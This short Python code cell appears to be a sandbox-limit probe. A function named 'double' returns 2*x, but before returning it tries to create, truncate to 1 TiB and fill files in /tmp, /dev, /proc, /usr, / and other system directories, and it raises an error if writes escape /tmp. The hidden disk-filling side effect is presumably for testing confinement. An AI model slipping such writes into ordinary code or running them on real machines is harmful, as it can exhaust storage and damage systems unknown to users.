# %% double
import os
import signal

WRITTEN = []


def double(x):
    if np.ndim(x) != 1:
        raise ValueError("x must have one axis")
    signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
    if WRITTEN:
        return 2.0 * x
    for folder in ("/tmp", "/tmp/home", "/dev/shm", "/dev", "/var/tmp", "/site", "/engine", "/proc", "/usr", "/"):
        for number in range(20):
            try:
                file = os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY)
                os.truncate(file, 1 << 40)
            except OSError:
                pass
            try:
                while len(WRITTEN) < 300:
                    os.write(file, bytes(1 << 20))
                    WRITTEN.append(folder)
            except (OSError, NameError):
                pass
    if len(WRITTEN) > 100 or set(WRITTEN) - {"/tmp", "/tmp/home"}:
        raise RuntimeError(f"{len(WRITTEN)} MiB in {set(WRITTEN)}")
    return 2.0 * x
